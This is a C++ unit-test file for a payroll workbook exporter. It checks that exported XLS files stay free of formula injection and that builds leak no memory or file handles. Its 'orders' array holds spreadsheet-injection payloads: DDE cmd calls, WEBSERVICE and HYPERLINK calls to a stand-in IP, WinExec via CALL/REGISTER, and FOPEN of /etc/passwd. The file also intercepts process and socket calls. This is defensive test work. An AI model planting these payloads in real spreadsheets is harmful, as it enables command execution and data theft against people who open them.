// Many builds in one process, and builds of texts that a spreadsheet could take for orders: nothing is started, nothing
// is connected to, and nothing in the result leads another program elsewhere.

#include "app/base/Files.h"
#include "tests/support/EmbeddedBuilds.h"
#include "tests/support/LongForm.h"
#include "tests/support/RecordedMessages.h"
#include "tests/support/TemporaryFolder.h"
#include "tests/workbook/BuildCases.h"
#include "workbook/engine/xls/WorkbookFile.h"

#include <gtest/gtest.h>

#include <array>
#include <fstream>
#include <iterator>
#include <unistd.h>

namespace {

int forbiddenCalls = 0; // that start a process or open a socket

} // namespace

// Calls to the C library come here first. The library declares these in ways that do not allow another definition.
__asm__(".globl fork, execve, posix_spawn, system, popen, socket\n"
        ".set fork, forbiddenCall\n"
        ".set execve, forbiddenCall\n"
        ".set posix_spawn, forbiddenCall\n"
        ".set system, forbiddenCall\n"
        ".set popen, forbiddenCall\n"
        ".set socket, forbiddenCall\n");
extern "C" int forbiddenCall()
{
    ++forbiddenCalls;
    return -1;
}

namespace wagemill::test {

namespace {

/// One of each kind: a command, a link, another file, a macro, a connection.
constexpr auto orders = std::to_array<const char*>(
    {"cmd|'/c calc'!A1", R"(DDE("cmd","/c calc","A1"))", R"(HYPERLINK("http://198.51.100.1/"&B4,"click"))",
     R"(WEBSERVICE("http://198.51.100.1/"&B4))", "'[evil.xls]Sheet1'!A1", "'file:///etc/passwd'#$passwd.A1",
     "evil.xls!name", R"(INDIRECT("'[evil.xls]Sheet1'!A1"))", R"(CALL("kernel32","WinExec","JCJ","calc",0))",
     R"(REGISTER("kernel32","WinExec","JCJ","run",,1,9))", R"(RUN("evil.xls!Auto_Open"))", "Auto_Open",
     R"(FOPEN("/etc/passwd",1))", R"(SQL.REQUEST("DSN=x",,2,"select 1"))", "macro1()", "SUM(B4:B28)",
     "\t=cmd|'/c calc'!A1"});

/// What could lead out of a workbook or hold code: streams, other books, names that mean something, records kept as
/// they were.
std::string waysOut(const std::filesystem::path& file)
{
    const engine::Book book = engine::xls::readWorkbook(readBytesFromFile(file), "built.xls");
    std::string ways;
    for (const auto& stream : book.keptStreams)
        ways += stream.path.back() + ' ';
    for (const auto& supporting : book.supportingBooks)
        ways += "book of kind " + std::to_string(static_cast<int>(supporting.kind)) + ' ';
    for (const auto& [name, sheet, formula, record] : book.names)
        if (!formula.tokens.empty() || name.starts_with("_") || name.starts_with("Auto_"))
            ways += name + ' ';
    std::vector<engine::KeptRecord> kept = book.kept;
    for (const auto& sheet : book.sheets)
        kept.insert(kept.end(), sheet->kept.begin(), sheet->kept.end());
    for (const engine::KeptRecord& record : kept)
        ways += std::to_string(record.id) + ' ';
    return ways;
}

/// Memory of this process that is in use now.
long residentMegabytes()
{
    std::ifstream statistics("/proc/self/statm");
    long pages = 0;
    statistics >> pages >> pages; // the second number
    return pages * sysconf(_SC_PAGESIZE) / (1024L * 1024);
}

long openFiles()
{
    return std::distance(std::filesystem::directory_iterator("/proc/self/fd"), {});
}

class Builds : public testing::Test {
protected:
    TemporaryFolder folder;
    ScopedEnvironment temporary{"TEMP", folder.path().string()};
    RecordedMessages messages; ///< an order that is not a formula is refused in the error dialog
    EmbeddedBuilds embedded;
    PayrollData sample = buildCases().front().data;
};

} // namespace

TEST_F(Builds, OfTextsThatLookLikeOrdersFollowNone)
{
    const auto built = [&](const PayrollData& data) {
        const auto workbook = embedded.build(data).workbook;
        std::string ways = waysOut(workbook);
        deleteFileQuietly(workbook);
        return ways;
    };
    const std::string usual = built(sample);
    const int step = shortOrLong(WAGEMILL_SANITIZED ? 7 : 1, 1); // of no common factor with the fields
    int number = 0;
    for (const std::string prefix : {"=", "+", "-", "@", "'"})
        for (const char* order : orders)
            for (const char* field : {"company", "txtEmployeeID", "txtName", "txtTaxStatus", "txtFedAllowance"}) {
                if (++number % step != 0)
                    continue;
                PayrollData data = sample;
                (field == std::string("company") ? data.header.companyName
                                                 : data.rows.front().texts[rowFieldIndex(field)]) = prefix + order;
                EXPECT_EQ(built(data), usual) << prefix << order << " in " << field;
            }
    EXPECT_EQ(forbiddenCalls, 0) << "a process was started or a socket opened";
}

TEST_F(Builds, GrowByNothing)
{
    const int builds = shortOrLong(WAGEMILL_SANITIZED ? 150 : 1000, 1000);
    constexpr int untilAllIsLoaded = 50;
    long memory = 0;
    long files = 0;
    for (int number = 0; number < builds; ++number) {
        if (number == untilAllIsLoaded) {
            memory = residentMegabytes();
            files = openFiles();
        }
        ASSERT_TRUE(std::filesystem::remove(embedded.build(sample).workbook));
    }
    EXPECT_EQ(openFiles(), files);
    if (WAGEMILL_SANITIZED)
        GTEST_SKIP() << "growth of memory: a sanitizer keeps what was given back";
    EXPECT_LE(residentMegabytes() - memory, 5);
}

} // namespace wagemill::test
